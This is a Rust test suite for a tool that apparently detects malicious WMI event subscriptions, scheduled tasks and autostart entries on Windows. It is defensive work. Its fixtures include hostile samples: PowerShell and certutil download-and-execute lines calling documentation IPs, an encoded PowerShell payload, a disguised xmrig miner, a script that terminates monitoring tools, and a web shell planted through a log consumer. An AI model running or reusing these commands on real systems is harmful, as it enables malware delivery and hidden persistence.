//! The judgement as a whole, on evidence made up in code. Recordings of real machines are tested with the command line.

use crate::assessment::{Action, Assessment, Confidence, Kind, Severity, Stage, State, Verdict};
use crate::test_support::{evidence_of, object, records_of};
use evidence::{
    Area, AutostartEntry, AutostartKind, ClassProperty, Evidence, ReadState, RecordData, WmiClass, WmiObject,
};
use intel::Intel;

fn stock() -> Vec<WmiObject> {
    vec![
        object(
            "__EventFilter",
            &[
                ("Name", "SCM Event Log Filter"),
                ("Query", "select * from MSFT_SCMEventLogEvent"),
                ("QueryLanguage", "WQL"),
                ("EventNamespace", r"root\cimv2"),
                ("EventAccess", ""),
            ],
        ),
        object(
            "NTEventLogEventConsumer",
            &[
                ("Name", "SCM Event Log Consumer"),
                ("Category", "0"),
                ("EventID", "0"),
                ("EventType", "1"),
                ("InsertionStringTemplates", ""),
                ("NameOfRawDataProperty", ""),
                ("NameOfUserSIDProperty", "sid"),
                ("NumberOfInsertionStrings", "0"),
                ("SourceName", "Service Control Manager"),
                ("UNCServerName", ""),
            ],
        ),
        binding("SCM Event Log Filter", "NTEventLogEventConsumer", "SCM Event Log Consumer"),
    ]
}

fn binding(filter: &str, class: &str, consumer: &str) -> WmiObject {
    object(
        "__FilterToConsumerBinding",
        &[
            ("Filter", &format!("__EventFilter.Name=\"{filter}\"")),
            ("Consumer", &format!("{class}.Name=\"{consumer}\"")),
            ("DeliverSynchronously", "FALSE"),
            ("DeliveryQoS", ""),
            ("MaintainSecurityContext", "FALSE"),
            ("SlowDownProviders", "FALSE"),
        ],
    )
}

fn filter(name: &str, query: &str) -> WmiObject {
    object(
        "__EventFilter",
        &[("Name", name), ("Query", query), ("QueryLanguage", "WQL"), ("EventNamespace", r"root\cimv2")],
    )
}

fn command(name: &str, line: &str) -> WmiObject {
    object(
        "CommandLineEventConsumer",
        &[("Name", name), ("CommandLineTemplate", line), ("ExecutablePath", "")],
    )
}

/// The stock entry and these objects, read completely.
fn machine(objects: impl IntoIterator<Item = WmiObject>) -> Evidence {
    complete(evidence_of(stock().into_iter().chain(objects)))
}

fn complete(mut evidence: Evidence) -> Evidence {
    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings] {
        evidence.coverage.add(area, ReadState::Complete);
    }
    evidence
}

fn assess(evidence: &Evidence) -> Assessment {
    crate::assess(evidence, Intel::builtin())
}

fn state(assessment: &Assessment, stage: Stage) -> State {
    assessment.stages.iter().find(|s| s.stage == stage).map(|s| s.state).unwrap()
}

#[test]
fn a_clean_machine_is_silent() {
    let assessment = assess(&machine([]));
    assert_eq!(assessment.verdict, Verdict::Clean);
    assert!(assessment.findings.is_empty(), "{:#?}", assessment.findings);
    assert_eq!(state(&assessment, Stage::Compare), State::Ok);
    assert_eq!(state(&assessment, Stage::Confirm), State::Ok);
    assert_eq!(state(&assessment, Stage::Patch), State::Unknown);
    assert_eq!(state(&assessment, Stage::Verify), State::Unknown);
    assert_eq!(assessment.stages.len(), 8);
}

#[test]
fn a_part_that_was_not_read_is_never_clean() {
    let mut evidence = evidence_of(stock());
    evidence.coverage.add(Area::EventFilters, ReadState::Complete);
    let assessment = assess(&evidence);
    assert_eq!(assessment.verdict, Verdict::Inconclusive);
    assert_eq!(state(&assessment, Stage::Compare), State::Unknown);
    assert!(assessment.missing.iter().any(|missing| missing.area == Area::Bindings && !missing.partly));
}

#[test]
fn a_missing_stock_entry_is_a_finding_and_names_its_parts() {
    // What the published removal script leaves: its first line deletes the stock filter.
    let assessment = assess(&complete(evidence_of(stock().into_iter().skip(1))));
    let kinds: Vec<_> = assessment.findings.iter().map(|f| (f.kind, f.action)).collect();
    assert_eq!(kinds, [(Kind::StockMissing, Action::Restore)]);
    assert_eq!(assessment.findings[0].subject["missing"], serde_json::json!(["filter"]));
    assert_eq!(assessment.verdict, Verdict::Clean);
    assert_eq!(state(&assessment, Stage::Compare), State::Act);
}

#[test]
fn a_stock_name_with_another_content_is_worse_than_an_unknown_name() {
    let forged = [
        filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent"),
        command("SCM Event Log Consumer", r"C:\Windows\System32\notepad.exe"),
        binding("SCM Event Log Filter", "CommandLineEventConsumer", "SCM Event Log Consumer"),
    ];
    let unknown = [
        filter("My Filter", "select * from MSFT_SCMEventLogEvent"),
        command("My Consumer", r"C:\Windows\System32\notepad.exe"),
        binding("My Filter", "CommandLineEventConsumer", "My Consumer"),
    ];
    let forged = assess(&machine(forged));
    assert_eq!(forged.verdict, Verdict::Infected);
    assert_eq!(
        (forged.findings[0].severity, forged.findings[0].confidence),
        (Severity::High, Confidence::Likely)
    );
    let unknown = assess(&machine(unknown));
    assert_eq!(unknown.verdict, Verdict::Suspicious);
    assert_eq!(
        (unknown.findings[0].severity, unknown.findings[0].confidence),
        (Severity::Medium, Confidence::Possible)
    );
    assert_eq!(unknown.findings[0].action, Action::Review);
}

#[test]
fn the_creator_never_decides() {
    let mut objects = stock();
    for object in &mut objects {
        object.properties.push(evidence::Property {
            name: evidence::PropertyName::known("CreatorSID"),
            value: evidence::Value::Array([1u64, 5, 0, 0].map(Into::into).to_vec()),
            state: evidence::State::Truncated,
        });
    }
    assert!(assess(&complete(evidence_of(objects))).findings.is_empty());
}

#[test]
fn a_download_in_a_consumer_is_infected_and_shown() {
    let assessment = assess(&machine([
        filter(
            "f",
            "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'",
        ),
        command(
            "c",
            "cmd /C powershell.exe -nop iex(New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')",
        ),
        binding("f", "CommandLineEventConsumer", "c"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Infected);
    let finding = &assessment.findings[0];
    assert_eq!((finding.kind, finding.action), (Kind::Subscription, Action::Remove));
    assert!(finding.attack.contains(&"T1546.003".to_owned()));
    assert!(
        finding.decoded[0].indicators.iter().any(|i| i.value.contains("192.0.2.4")),
        "{:?}",
        finding.decoded
    );
    assert_eq!(finding.subject["filters"].as_array().map(Vec::len), Some(1));
}

#[test]
fn a_consumer_bound_twice_is_one_finding() {
    let query = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'";
    let script = "Set p = GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_Process\")\nfor each x in p\nx.Terminate()\nnext";
    let assessment = assess(&machine([
        filter("f1", query),
        filter("f2", query),
        object(
            "ActiveScriptEventConsumer",
            &[("Name", "c"), ("ScriptingEngine", "VBScript"), ("ScriptText", script)],
        ),
        binding("f1", "ActiveScriptEventConsumer", "c"),
        binding("f2", "ActiveScriptEventConsumer", "c"),
    ]));
    assert_eq!(assessment.findings.len(), 1);
    assert_eq!(assessment.findings[0].severity, Severity::High, "it ends a tool for looking at the machine");
    assert_eq!(assessment.findings[0].subject["filters"].as_array().map(Vec::len), Some(2));
}

#[test]
fn names_alone_are_never_infected() {
    let assessment = assess(&machine([
        filter("SCM Event8 Log Filter", "select * from Win32_VolumeChangeEvent"),
        command("SCM Event8 Log Consumer", r"C:\Program Files\Backup\sync.exe"),
        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Suspicious);
    assert!(assessment.findings.iter().all(|f| f.severity >= Severity::Medium && f.action == Action::Review));
}

#[test]
fn the_bvt_entry_is_for_review_and_says_why() {
    let assessment = assess(&machine([
        filter(
            "BVTFilter",
            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99",
        ),
        object(
            "CommandLineEventConsumer",
            &[
                ("Name", "BVTConsumer"),
                ("CommandLineTemplate", "cscript KernCap.vbs"),
                ("WorkingDirectory", r"C:\\tools\\kernrate"),
            ],
        ),
        binding("BVTFilter", "CommandLineEventConsumer", "BVTConsumer"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
    assert_eq!(assessment.findings[0].severity, Severity::Low);
    assert!(assessment.findings[0].reasons.iter().any(|reason| reason.id == "reason-baseline-file"));
}

#[test]
fn a_payload_in_a_class_is_found_by_size_and_names_its_victims() {
    let property = |name: &str, value: String| ClassProperty {
        name: name.into(),
        cim_type: "string".into(),
        default: Some(value.into()),
    };
    let class = WmiClass {
        name: "Win32_Services".into(),
        namespace: Some(r"root\default".into()),
        properties: vec![
            property("mon", "QUJD".repeat(1000)),
            property("funs", "QUJD".repeat(1000)),
            property("ipsu", "10.0.0.7 10.0.0.8".into()),
        ],
        ..WmiClass::default()
    };
    let assessment = assess(&records_of([RecordData::WmiClass(class)]));
    assert_eq!(assessment.verdict, Verdict::Infected);
    let finding = &assessment.findings[0];
    assert_eq!((finding.kind, finding.family.as_deref()), (Kind::ClassStore, Some("WannaMine")));
    assert_eq!((finding.confidence, finding.action), (Confidence::Certain, Action::Remove));
    assert_eq!(assessment.neighbours, ["10.0.0.7", "10.0.0.8"]);
    assert_eq!(state(&assessment, Stage::Prevent), State::Act);
}

#[test]
fn a_class_of_windows_is_no_store() {
    let class = WmiClass {
        name: "StdRegProv".into(),
        namespace: Some(r"root\default".into()),
        properties: vec![ClassProperty {
            name: "x".into(),
            cim_type: "string".into(),
            default: Some("y".repeat(134).into()),
        }],
        ..WmiClass::default()
    };
    assert!(assess(&records_of([RecordData::WmiClass(class)])).findings.is_empty());
}

fn entry(kind: AutostartKind, name: &str, command: &str) -> RecordData {
    RecordData::Autostart(AutostartEntry {
        kind: Some(kind),
        name: name.into(),
        location: "Task Scheduler".into(),
        launch_string: Some(command.into()),
        ..AutostartEntry::default()
    })
}

#[test]
fn an_open_miner_is_the_owners_business() {
    let miner = entry(
        AutostartKind::Run,
        "miner",
        r"C:\Miner\xmrig.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1",
    );
    let assessment =
        assess(&complete(records_of(stock().into_iter().map(RecordData::WmiObject).chain([miner]))));
    assert_eq!(assessment.findings[0].action, Action::AskOwner);
    assert_eq!(assessment.verdict, Verdict::Suspicious);
}

#[test]
fn ordinary_autostart_entries_are_silent() {
    let entries = [
        entry(
            AutostartKind::Task,
            r"\GoogleUpdateTaskMachineUA",
            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua",
        ),
        entry(
            AutostartKind::Task,
            r"\Microsoft\Windows\Workplace Join\Automatic-Device-Join",
            r"%SystemRoot%\System32\dsregcmd.exe $(Arg0)",
        ),
        entry(AutostartKind::Service, "W32Time", r"C:\Windows\system32\svchost.exe -k LocalService"),
    ];
    assert!(assess(&records_of(entries)).findings.is_empty());
}

#[test]
fn an_ambiguous_reading_of_the_stock_entry_is_not_silent() {
    let mut objects = stock();
    objects[1].ambiguous = true;
    let assessment = assess(&complete(evidence_of(objects)));
    assert_ne!(assessment.verdict, Verdict::Clean);
    assert!(assessment.findings.iter().all(|f| f.action != Action::Remove));
}

#[test]
fn two_runs_give_the_same() {
    let evidence = machine([
        command("c", "powershell -w hidden -enc SQBFAFgA"),
        filter("f", "select * from __TimerEvent"),
    ]);
    assert_eq!(assess(&evidence), assess(&evidence));
}

fn event(provider: &str, event_id: u32, data: &[(&str, &str)]) -> RecordData {
    RecordData::Event(evidence::Event {
        channel: "log".into(),
        provider: provider.into(),
        event_id,
        record_id: 7,
        time: "2022-03-10T21:08:30Z".parse().unwrap(),
        computer: "PC".into(),
        data: data.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
    })
}

/// Records of one event, as a log's reader derives them: all at the place of the event.
fn from_log(records: impl IntoIterator<Item = RecordData>) -> Evidence {
    let mut evidence = records_of(records);
    evidence.sources[0].format = "event-log".into();
    for record in &mut evidence.records {
        record.provenance.location = evidence::Location::Record(7);
    }
    evidence
}

#[test]
fn what_only_a_log_shows_is_no_longer_removed() {
    let was = || {
        let objects =
            [filter("f", "select * from __TimerEvent"), command("c", "powershell -w hidden -enc SQBFAFgA")];
        let binding = binding("f", "CommandLineEventConsumer", "c");
        let objects = objects.into_iter().chain([binding]).map(RecordData::WmiObject);
        from_log(objects.chain([event("Microsoft-Windows-WMI-Activity", 5861, &[("CONSUMER", "c")])]))
    };
    let alone = assess(&was());
    assert_eq!(alone.verdict, Verdict::Infected, "nothing tells that it is gone");
    assert_eq!(alone.findings[0].reasons[0].id, "reason-history");
    assert_eq!(alone.timeline.len(), 1);

    let mut with_listing = machine([]);
    with_listing.merge(was());
    let gone = assess(&with_listing);
    assert_eq!(gone.verdict, Verdict::Suspicious);
    assert_eq!(gone.findings[0].reasons[0].id, "reason-history-gone");
    assert_eq!(gone.findings[0].action, Action::Review);

    let mut still = machine([
        filter("f", "select * from __TimerEvent"),
        command("c", "powershell -w hidden -enc SQBFAFgA"),
        binding("f", "CommandLineEventConsumer", "c"),
    ]);
    still.merge(was());
    let still = assess(&still);
    assert_eq!(still.findings.len(), 1, "one finding with two pieces of evidence");
    assert_eq!((still.verdict, still.findings[0].action), (Verdict::Infected, Action::Remove));
    assert!(still.findings[0].evidence.len() > 1);
}

#[test]
fn what_defender_found_is_one_finding_a_threat() {
    let found = || {
        let data = [("Threat Name", "HackTool:Win32/X"), ("Path", "file:_C:\\x")];
        event("Microsoft-Windows-Windows Defender", 1116, &data)
    };
    let assessment = assess(&records_of([found(), found()]));
    assert_eq!(assessment.findings.len(), 1);
    assert_eq!((assessment.findings[0].kind, assessment.findings[0].severity), (Kind::Event, Severity::High));
}

#[test]
fn a_task_that_the_scheduler_hides_is_a_finding() {
    let task = |security_descriptor, scheduler, listed, hidden| {
        RecordData::Task(evidence::ScheduledTask {
            path: r"\Update".into(),
            hidden,
            actions: vec![evidence::TaskAction::Exec {
                command: r"C:\Program Files\x.exe".into(),
                arguments: None,
                working_directory: None,
            }],
            seen: evidence::TaskPlaces {
                file: Some(true),
                registry: Some(true),
                security_descriptor,
                listed,
                scheduler,
            },
            ..evidence::ScheduledTask::default()
        })
    };
    let found = |task| {
        let findings = assess(&records_of([task])).findings;
        findings.first().map(|finding| (finding.severity, finding.action, finding.reasons.len()))
    };
    let yes = Some(true);
    assert_eq!(found(task(yes, None, None, None)), None);
    assert_eq!(found(task(yes, yes, yes, None)), None);
    // Many tasks of Windows say that no window shall show them: that counts beside another sign and is none by itself.
    assert_eq!(found(task(yes, yes, yes, yes)), None);
    let (low, review) = (Severity::Low, Action::Review);
    assert_eq!(found(task(yes, Some(false), None, None)), Some((low, review, 1)));
    assert_eq!(found(task(yes, Some(false), None, yes)), Some((low, review, 2)));
    assert_eq!(found(task(yes, None, Some(false), None)), Some((Severity::Medium, review, 1)));
    assert_eq!(found(task(Some(false), Some(false), None, None)), Some((Severity::High, review, 1)));
}

#[test]
fn a_task_of_which_the_registry_runs_something_else_is_a_finding() {
    let exec = |command: &str| evidence::TaskAction::Exec {
        command: command.to_owned(),
        arguments: None,
        working_directory: None,
    };
    let task = |place, actions: Vec<_>| {
        RecordData::Task(evidence::ScheduledTask {
            path: r"\Update".into(),
            actions: vec![exec(r"C:\Program Files\x.exe")],
            elsewhere: vec![evidence::TaskReading { place, actions }],
            ..evidence::ScheduledTask::default()
        })
    };
    let harmless = vec![exec(r"C:\Program Files\y.exe")];
    let other = assess(&records_of([task(evidence::TaskPlace::Registry, harmless.clone())]));
    assert_eq!((other.findings[0].severity, other.findings[0].action), (Severity::Medium, Action::Review));
    let told = assess(&records_of([task(evidence::TaskPlace::Scheduler, harmless)]));
    assert_eq!(told.findings[0].severity, Severity::Low);
    let miner = "xmrig.exe -o stratum+tcp://pool.example.org:3333 -u x --donate-level 1";
    let miner = assess(&records_of([task(evidence::TaskPlace::Registry, vec![exec(miner)])]));
    assert!(miner.findings[0].severity <= Severity::Medium, "{:?}", miner.findings);
    let text = serde_json::to_string(&miner.findings[0]).unwrap();
    assert!(text.contains("reason-task-differs") && text.contains("donate-level"), "{text}");
}

#[test]
fn what_a_damaged_hive_lost_is_the_past_and_never_planned() {
    let entry = RecordData::Autostart(evidence::AutostartEntry {
        kind: Some(evidence::AutostartKind::Run),
        location: r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run".into(),
        name: "x".into(),
        launch_string: Some(
            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAHgALwBhACcAKQA="
                .into(),
        ),
        ..evidence::AutostartEntry::default()
    });
    let mut evidence = records_of([entry]);
    assert_eq!(assess(&evidence).findings[0].action, Action::Remove);
    evidence.sources[0].format = "registry-hive-deleted".into();
    let found = assess(&evidence);
    assert_eq!((found.findings[0].severity, found.findings[0].action), (Severity::Medium, Action::Review));
}

#[test]
fn what_hangs_on_something_missing_is_still_judged() {
    let query = "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
    let mut objects = stock();
    objects[0] = filter("SCM Event Log Filter", query);
    objects.push(binding("SCM Event Log Filter", "CommandLineEventConsumer", "Gone"));
    let assessment = assess(&complete(evidence_of(objects)));
    assert_ne!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
    let text = serde_json::to_string(&assessment.findings).unwrap();
    assert!(text.contains("WITHIN 5600"), "the query is shown");
}

#[test]
fn a_name_known_from_hearsay_makes_no_impostor() {
    let assessment = assess(&machine([
        filter("logon", "select * from Win32_LogonSession"),
        command("McAfee Updater", r#""C:\Program Files\McAfee\upd.exe""#),
        binding("logon", "CommandLineEventConsumer", "McAfee Updater"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Suspicious);
}

#[test]
fn habits_of_administrators_need_a_look_in_a_consumer_and_none_in_a_task() {
    let line = r#"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File "C:\Scripts\backup.ps1""#;
    let consumer = assess(&machine([
        filter("usb", "select * from Win32_VolumeChangeEvent"),
        command("backup", line),
        binding("usb", "CommandLineEventConsumer", "backup"),
    ]));
    assert_eq!((consumer.verdict, consumer.findings[0].action), (Verdict::Suspicious, Action::Review));
    assert!(assess(&records_of([entry(AutostartKind::Task, r"\Backup", line)])).findings.is_empty());
}

#[test]
fn a_download_by_a_tool_of_windows_in_a_task_needs_a_look() {
    let line = r"cmd.exe /c certutil -urlcache -f http://192.0.2.7/x.exe %TEMP%\x.exe & start %TEMP%\x.exe";
    let assessment = assess(&records_of([entry(AutostartKind::Task, r"\Update", line)]));
    assert_eq!(assessment.verdict, Verdict::Suspicious, "{:?}", assessment.findings);
}

#[test]
fn a_disguised_miner_is_nobodys_wish() {
    let line = r"C:\Windows\Fonts\svchost.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1";
    let assessment = assess(&records_of([entry(AutostartKind::Service, "Update", line)]));
    assert_eq!((assessment.verdict, assessment.findings[0].action), (Verdict::Infected, Action::Remove));
}

#[test]
fn a_log_consumer_that_plants_code_is_no_log() {
    let planted = |file: &str| {
        let consumer =
            object("LogFileEventConsumer", &[("Name", "c"), ("Filename", file), ("Text", "<%x%>")]);
        let binding = binding("f", "LogFileEventConsumer", "c");
        assess(&machine([filter("f", "select * from Win32_VolumeChangeEvent"), consumer, binding])).verdict
    };
    assert_eq!(planted(r"C:\inetpub\wwwroot\x.aspx. "), Verdict::Infected);
    assert_eq!(
        planted(r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x"),
        Verdict::Infected
    );
    assert_eq!(planted(r"C:\data\x.dat"), Verdict::Suspicious);
    assert_eq!(planted(r"C:\logs\usb.log"), Verdict::Clean);
}

#[test]
fn a_store_in_pieces_in_qualifiers_or_in_an_instance_is_a_store() {
    let class = |properties: Vec<ClassProperty>, qualifiers: Vec<(String, evidence::Value)>| {
        let class = WmiClass {
            name: "Win32_Updater".into(),
            namespace: Some(r"root\default".into()),
            properties,
            qualifiers,
            ..WmiClass::default()
        };
        assess(&records_of([RecordData::WmiClass(class)])).verdict
    };
    let piece = |at: usize, length: usize| ClassProperty {
        name: format!("p{at}"),
        cim_type: "string".into(),
        default: Some("QUJD".repeat(length / 4).into()),
    };
    assert_eq!(class((0..50).map(|at| piece(at, 960)).collect(), Vec::new()), Verdict::Infected);
    let qualifier = ("Description".to_owned(), "QUJD".repeat(2000).into());
    assert_eq!(class(Vec::new(), vec![qualifier]), Verdict::Infected);
    let command = ClassProperty {
        default: Some(
            "powershell -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"
                .into(),
        ),
        ..piece(0, 0)
    };
    assert_eq!(class(vec![command], Vec::new()), Verdict::Infected);
    let instance = object("Win32_Svc", &[("Name", "x"), ("mon", &"QUJD".repeat(2000))]);
    assert_eq!(assess(&evidence_of([instance])).verdict, Verdict::Suspicious);
}

#[test]
fn a_learned_baseline_does_not_pass_what_a_family_is_known_by() {
    let infected = machine([
        filter(
            "SCM Event8 Log Filter",
            "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
        ),
        command(
            "SCM Event8 Log Consumer",
            r"powershell -w hidden -c $funs = ([WmiClass] 'root\default:Win32_Services').Properties['funs'].Value; iex $funs",
        ),
        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
    ]);
    assert_eq!(assess(&infected).findings[0].severity, Severity::Critical);
    let learned =
        Intel::builtin().clone().with_baseline(intel::learn(std::slice::from_ref(&infected), "wrong"));
    assert_eq!(crate::assess(&infected, &learned).verdict, Verdict::Infected);
}

#[test]
fn a_provider_and_a_consumer_class_of_a_family() {
    let registration = object(
        "__EventConsumerProviderRegistration",
        &[
            ("ConsumerClassNames", "ASEventConsumerdr"),
            ("provider", "__Win32Provider.Name=\"ASEventConsumerdr\""),
        ],
    );
    let provider = object("__Win32Provider", &[("Name", "ASEventConsumerdr"), ("CLSID", "{1}")]);
    let other = object("__Win32Provider", &[("Name", "CIMWin32"), ("CLSID", "{2}")]);
    let assessment = assess(&machine([registration, provider, other]));
    let found: Vec<_> = assessment
        .findings
        .iter()
        .map(|f| (f.kind, f.severity, f.confidence, f.name.as_str(), f.family.as_deref()))
        .collect();
    let (kind, medium) = (Kind::ConsumerClass, Severity::Medium);
    assert_eq!(
        found,
        [
            (kind, medium, found[0].2, "ASEventConsumerdr", Some("Bondnet")),
            (kind, medium, found[1].2, "ASEventConsumerdr", Some("Bondnet")),
        ]
    );
    assert!(
        found.iter().any(|f| f.2 == Confidence::Likely) && found.iter().any(|f| f.2 == Confidence::Possible)
    );
}

#[test]
fn a_consumer_class_that_windows_does_not_have() {
    let class = |name: &str, superclass: &str| {
        RecordData::WmiClass(WmiClass {
            namespace: Some(r"root\subscription".into()),
            name: name.into(),
            superclass: Some(superclass.into()),
            ..WmiClass::default()
        })
    };
    let low = |record: RecordData| {
        assess(&complete(records_of([record]))).findings.iter().any(|f| f.kind == Kind::ClassStore)
    };
    assert!(low(class("OddConsumer", "__EventConsumer")));
    assert!(!low(class("OddThing", "")));
    assert!(!low(class("CommandLineEventConsumer", "__EventConsumer")));
}

#[test]
fn what_was_stored_after_windows_says_so() {
    use evidence::{Provenance, Record, Setting};
    let mut evidence = machine([
        filter("F", "SELECT * FROM Win32_ProcessStartTrace"),
        command("C", "cmd.exe /c echo"),
        binding("F", "CommandLineEventConsumer", "C"),
    ]);
    let at: Provenance = evidence
        .records
        .iter()
        .find(|record| matches!(&record.data, RecordData::WmiObject(object) if object.name() == "C"))
        .unwrap()
        .provenance;
    evidence.records.push(Record {
        provenance: at,
        data: RecordData::Setting(Setting {
            kind: "wmi-written-after-install".into(),
            name: "CommandLineEventConsumer.Name=\"C\"".into(),
            value: "2022-03-10T16:35:19Z".into(),
            ..Setting::default()
        }),
    });
    let assessment = assess(&evidence);
    let reasons = &assessment.findings[0].reasons;
    assert!(reasons.iter().any(|reason| reason.id == "reason-added-later"), "{reasons:?}");
    assert_eq!(assessment.timeline.len(), 1);
}
